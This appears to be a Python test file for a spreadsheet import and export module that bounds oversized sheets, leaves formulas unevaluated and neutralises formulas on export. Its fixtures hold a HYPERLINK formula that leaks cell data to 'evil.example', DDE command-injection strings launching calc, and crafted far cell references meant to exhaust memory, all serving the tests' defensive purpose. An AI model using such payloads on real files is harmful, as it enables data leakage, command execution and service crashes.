def test_far_cell_is_refused_before_calamine_allocates_the_grid():
    # python-calamine would try to allocate 16 384 x 1 048 576 cells and abort the whole process.
    content = make_raw_xlsx(
        f'<row r="1">{inline("A1", "nom_apprenant")}</row><row r="1048576">{inline("XFD1048576", "x")}</row>'
    )
    assert_refused(
        "feuille_trop_grande",
        "Votre fichier contient des cellules remplies très loin du tableau (jusqu'à la ligne "
        "1048576 et la colonne XFD). Veuillez supprimer les lignes et les colonnes inutiles puis importer à nouveau "
        "votre fichier.",
        content=content,
    )


def test_far_cells_without_references_are_bounded_too():
    # No "r" attributes: positions are implicit (next row, next cell), as calamine reads them.
    row = "<row>" + "<c><v>1</v></c>" * 3000 + "</row>"
    content = make_raw_xlsx(f'<row r="1">{inline("A1", "nom_apprenant")}</row><row r="999"/>{row}')
    error = assert_refused(
        "feuille_trop_grande",
        "Votre fichier contient des cellules remplies très loin du tableau (jusqu'à la ligne "
        "1000 et la colonne DKJ). Veuillez supprimer les lignes et les colonnes inutiles puis importer à nouveau "
        "votre fichier.",
        content=content,
    )
    assert error.code == "feuille_trop_grande"


@pytest.mark.parametrize(
    "far_cell",
    [
        '<row r="2"><c r="xfd1048576"><v>1</v></c></row>',  # calamine accepts lower-case references
        "<row r='2'><c r='XFD1048576'><v>1</v></c></row>",
        '<row r="2"><c foo=">" r="XFD1048576"><v>1</v></c></row>',
        '<row r="2"><c\nr="XFD1048576"><v>1</v></c></row>',
        '<row r="2"><c r = "XFD1048576"><v>1</v></c></row>',
        '<row r="2"><c r="A2" r="XFD1048576"><v>1</v></c></row>',  # calamine takes the last one
        '<row r="2"><c r="A2"r="XFD1048576"><v>1</v></c></row>',
        '<row r="2"><c r="A2" r= "XFD1048576"><v>1</v></c></row>',
        '<row r="2"><c r="A2" r=\'XFD1048576\'><v>1</v></c></row>',
        '<row r="2"><c r="A0000000000000002"><v>1</v></c><c r="AAAAAA2"><v>1</v></c></row>',
        '<row r="1048576"><c r="A2"><v>1</v></c><c><v>2</v></c></row>',  # implicit cell: the row tag's row
        '<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="2">'
        '<x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>',
    ],
)
def test_far_cells_cannot_sneak_past_the_bound(far_cell):
    content = make_raw_xlsx(f'<row r="1">{inline("A1", "nom_apprenant")}</row>{far_cell}')
    with pytest.raises(ExcelImportError) as caught:
        parse_file(filename="effectifs.xlsx", content=content)
    assert caught.value.code == "feuille_trop_grande"


def test_ordinary_workbooks_skip_the_exact_scan(monkeypatch):
    """The exact scan costs ~5 times the fast checks: sheets from spreadsheet applications must not need it."""
    from transmissions.excel import archive

    exact = archive._ROW_OR_CELL_RE

    class NoExactScanOfSheets:
        def finditer(self, xml):
            assert b"<sheetData" not in xml, "exact scan used on a sheet"
            return exact.finditer(xml)  # small parts (theme...) may take it: it is cheap on them

    monkeypatch.setattr(archive, "_ROW_OR_CELL_RE", NoExactScanOfSheets())
    assert parse_file(filename="effectifs.xlsx", content=build_template()).rows
    assert len(parse_file(filename="effectifs.xlsx", content=make_xlsx(_many_rows(300))).rows) == 300
    assert parse_file(filename="e.xlsx", content=xlsx_bytes(HEADERS, [["x"] * 4])).rows
    excel_like = make_raw_xlsx(
        '<row r="1" spans="1:2" x14ac:dyDescent="0.25"><c r="A1" t="inlineStr"><is><t>nom_apprenant</t></is></c>'
        '<c r="B1" s="1"/></row><row r="2"><c r="A2" s="2" t="inlineStr"><is><t>Dupuis</t></is></c></row>',
        namespaces=EXCEL_NAMESPACES,
        tail=EXCEL_TAIL,
    )
    assert parse_file(filename="e.xlsx", content=excel_like).rows[0].values["nom_apprenant"] == "Dupuis"


def test_unreadable_cell_reference_is_corrupt():
    content = make_raw_xlsx(f'<row r="1">{inline("A1", "nom_apprenant")}<c r="$B$1"><v>1</v></c></row>')
    assert_refused("fichier_corrompu", CORRUPT, content=content)


def test_far_cell_in_any_part_is_refused():
    """Calamine finds sheets through relations: every part is bounded, not just the one named first."""
    workbook = openpyxl.Workbook()
    workbook.active.append(HEADERS)
    workbook.create_sheet("Listes")["XFD1048576"] = "x"
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(ExcelImportError) as caught:
        parse_file(filename="effectifs.xlsx", content=buffer.getvalue())
    assert caught.value.code == "feuille_trop_grande"


def test_far_styled_empty_cell_is_harmless():
    content = make_raw_xlsx(
        f'<row r="1">{inline("A1", "nom_apprenant")}</row><row r="2">{inline("A2", "Dupuis")}</row>'
        '<row r="1048576"><c r="XFD1048576" s="1"/></row>'
    )
    [row] = parse_file(filename="effectifs.xlsx", content=content).rows
    assert row.values["nom_apprenant"] == "Dupuis"


def test_csv_not_decodable():
    content = b"nom_apprenant\nDupuis\n" + b"\x81\x8d\x90\x9d\xff"
    assert_refused("encodage_invalide", ENCODING, filename="effectifs.csv", content=content)
    assert_refused("encodage_invalide", ENCODING, filename="effectifs.csv", content=b"nom_apprenant\x00\x01\x02")


def test_csv_malformed():
    content = b'nom_apprenant\n"' + b"x" * 200_000 + b"\n"
    assert_refused(
        "csv_invalide",
        "Le fichier CSV est mal formé (guillemets non refermés ou cellule trop longue). Veuillez l'enregistrer au "
        "format .xlsx puis l'importer à nouveau.",
        filename="effectifs.csv",
        content=content,
    )


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("effectifs.xlsx", make_xlsx([])),
        ("effectifs.xlsx", make_xlsx([[None], ["   "]])),
        ("effectifs.csv", b"\r\n;;\r\n  \r\n"),
        ("effectifs.csv", b"\xef\xbb\xbf"),
    ],
)
def test_no_header_row(filename, content):
    assert_refused(
        "entete_absente",
        "Le fichier ne contient aucune ligne : la première ligne doit contenir les intitulés de colonnes du "
        "fichier-modèle Excel téléchargeable.",
        filename=filename,
        content=content,
    )


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("effectifs.xlsx", make_xlsx([["Nom", "Prénom", "Naissance"], ["Dupuis", "Gaston", "24/01/1998"]])),
        ("effectifs.xlsx", make_xlsx([["Liste des apprentis 2024"], HEADERS, ["Dupuis", "Gaston", 35819, 1]])),
        ("effectifs.csv", b"nom;prenom\r\nDupuis;Gaston\r\n"),
    ],
)
def test_no_known_column(filename, content):
    assert_refused("format_non_conforme", NOT_CONFORM, filename=filename, content=content)


def test_every_error_code_is_covered():
    # Codes asserted by the tests above: adding a code to the module without a test fails here.
    tested = {
        "fichier_trop_volumineux", "fichier_vide", "fichier_non_tableur", "format_xls", "format_ods",
        "fichier_protege", "fichier_corrompu", "archive_suspecte", "feuille_absente", "feuille_trop_grande",
        "encodage_invalide", "csv_invalide", "entete_absente", "format_non_conforme", "trop_de_lignes",
    }  # fmt: skip
    assert tested == ERROR_CODES


# ----------------------------------------------------------------------------------------------------------------------
# Formulas are never evaluated
# ----------------------------------------------------------------------------------------------------------------------


def test_xlsx_formulas_give_their_cached_value_or_nothing():
    keys = ["nom_apprenant", "prenom_apprenant", "annee_formation", "adresse_apprenant", "libelle_court_formation"]
    content = make_raw_xlsx(
        '<row r="1">'
        + "".join(inline(f"{letter}1", key) for letter, key in zip("ABCDE", keys, strict=True))
        + '</row><row r="2">'
        '<c r="A2" t="str"><f>HYPERLINK("http://evil.example/?leak="&amp;B2,"Cliquez")</f><v>Cliquez</v></c>'
        '<c r="B2" t="inlineStr"><is><t>=1+1</t></is></c>'
        '<c r="C2"><f>1+1</f><v>2</v></c>'
        '<c r="D2" t="str"><f>CONCATENATE("a","b")</f></c>'
        '<c r="E2" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>'
        "</row>"
    )
    [row] = parse_file(filename="effectifs.xlsx", content=content).rows
    assert row.values["nom_apprenant"] == "Cliquez"  # cached value, the link is not followed
    assert row.values["prenom_apprenant"] == "=1+1"  # literal text
    assert row.values["annee_formation"] == 2  # cached value
    assert row.values["adresse_apprenant"] is None  # no cached value: nothing is computed
    assert row.values["libelle_court_formation"] == "=cmd|' /C calc'!A0"


def test_openpyxl_formula_without_cached_value_is_empty():
    content = make_xlsx([["nom_apprenant", "annee_formation"], ["Dupuis", "=1+1"]])
    [row] = parse_file(filename="effectifs.xlsx", content=content).rows
    assert row.values["annee_formation"] is None


def test_csv_formulas_stay_text():
    content = make_csv([["nom_apprenant", "annee_formation"], ['=HYPERLINK("http://x","y")', "=1+1"]])
    [row] = parse_file(filename="effectifs.csv", content=content).rows
    assert row.values["nom_apprenant"] == '=HYPERLINK("http://x","y")'
    assert row.values["annee_formation"] == "=1+1"


# ----------------------------------------------------------------------------------------------------------------------
# Identity hash
# ----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "seed", "expected"),
    [
        # Checked against the reference's JavaScript (shared/utils cyrb53Hash) run with node.
        ("", 0, "488bdcb81aee8d83"),
        ("a", 0, "501c2ba782c97901"),
        ("gastondupuis1998-01-24", 0, "4b9497988548e1c4"),
        ("Zoë", 0, "2bd6f11f8ce91786"),
        ("😀x", 0, "fe48402aa946aaa6"),  # UTF-16 code units, as charCodeAt
    ],
)
def test_cyrb53_vectors(text, seed, expected):
    assert cyrb53(text, seed) == expected


def test_id_erp_apprenant_normalisation():
    expected = "61405103f27fc960"  # node: cyrb53Hash(normalize(" Zoë ").trim() + normalize("Lefèvre-Çaglar")...)
    assert compute_id_erp_apprenant(prenom=" Zoë ", nom="Lefèvre-Çaglar", date_de_naissance="2005-03-09") == expected
    assert compute_id_erp_apprenant(prenom="ZOE", nom="lefevre-caglar", date_de_naissance=" 2005-03-09 ") == expected
    # An unconverted date counts as empty, as the reference's null did.
    assert compute_id_erp_apprenant(prenom="a", nom="b", date_de_naissance="31/02/2024") == cyrb53("ab")
    assert compute_id_erp_apprenant(prenom=None, nom=None, date_de_naissance=None) == cyrb53("")


# ----------------------------------------------------------------------------------------------------------------------
# Exports
# ----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+33 6 12 34 56 78", "+33 6 12 34 56 78"),  # a plain number cannot carry a payload
        ("-12,5", "-12,5"),
        ("Dupuis", "Dupuis"),
        ("a=b", "a=b"),
        ("", ""),
        (12, 12),
        (None, None),
        (dt.date(2024, 1, 1), dt.date(2024, 1, 1)),
    ],
)
def test_neutralize_formula(value, expected):
    assert neutralize_formula(value) == expected


def test_xlsx_bytes_round_trip():
    headers = ["organisme_uai", "organisme_siret", "apprenant_nom", "apprenant_date_de_naissance", "transmis_le",
               "apprentis", "actif", "apprenant_telephone", "=SUM(A1)"]  # fmt: skip
    rows = [
        ["0123456A", 77937827200016, '=HYPERLINK("http://x","y")', dt.date(1998, 1, 24),
         dt.datetime(2024, 7, 1, 10, 30, tzinfo=dt.UTC), 12, True, "+33612345678", "x\x00y"],
        [None, "00123456700018", "@Dupuis", None, None, 0, False, 612345678, None],
    ]  # fmt: skip
    content = xlsx_bytes(headers, iter(rows))

    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Liste"]
    sheet = workbook["Liste"]
    assert sheet.freeze_panes == "A2"
    cells = [list(row) for row in sheet.iter_rows()]
    assert all(c.data_type != "f" for row in cells for c in row)  # nothing a spreadsheet would evaluate
    assert [c.value for c in cells[0]][-1] == "'=SUM(A1)"
    first, second = ([c.value for c in row] for row in cells[1:])
    assert first[0] == "0123456A"
    assert first[1] == "77937827200016" and cells[1][1].number_format == "@"
    assert first[2] == '\'=HYPERLINK("http://x","y")'
    assert first[3] == dt.datetime(1998, 1, 24) and cells[1][3].number_format == "DD/MM/YYYY"
    assert first[4] == dt.datetime(2024, 7, 1, 12, 30)  # Paris time
    assert first[5:8] == [12, True, "+33612345678"]
    assert first[8] == "xy"
    assert second[1] == "00123456700018"
    assert second[2] == "'@Dupuis"
    assert second[5:8] == [0, False, "612345678"]  # phone column forced to text
    assert cells[2][7].number_format == "@"

    grid = CalamineWorkbook.from_object(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert grid[1][1] == "77937827200016"


def test_xlsx_bytes_explicit_text_columns_and_sheet_name():
    content = xlsx_bytes(
        ["code", "n", "taux"], [["007", 7, Decimal("1.5")], ["8", 8, None]], "Organismes", text_columns={"n"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Organismes"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [["007", "7", 1.5], ["8", "8", None]]
